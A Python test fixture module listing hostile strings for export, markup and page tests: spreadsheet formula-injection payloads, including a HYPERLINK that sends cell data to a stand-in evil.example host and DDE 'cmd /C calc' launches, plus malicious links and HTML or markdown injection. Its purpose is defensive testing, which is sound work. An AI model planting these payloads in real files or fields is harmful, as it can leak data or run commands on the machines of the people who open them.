"""Hostile texts an attacker can put in a unit name, a title, a finding or a file name.

Shared by the export, markup and page tests: each one must come out of every
output as inert text (no formula, no link, no style, no crash).
"""

from __future__ import annotations

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
)
LINKS = (
    "https://evil.example/login",
    "external:\\\\host\\share",
    "mailto:a@evil.example",
    "www.evil.example",
)
MARKUP = (
    '<a href="https://evil.example">点我</a>',
    '<span style="font-size:80px;color:red">大</span>',
    "<b>粗</b><i>斜</i><br>换行",
    "[链接](https://evil.example)",
)
MATH = ("$x^2$ 与 $y$", "$$", r"a $\frac{1}{0}$ b")

ALL = (*FORMULAS, *LINKS, *MARKUP, *MATH)
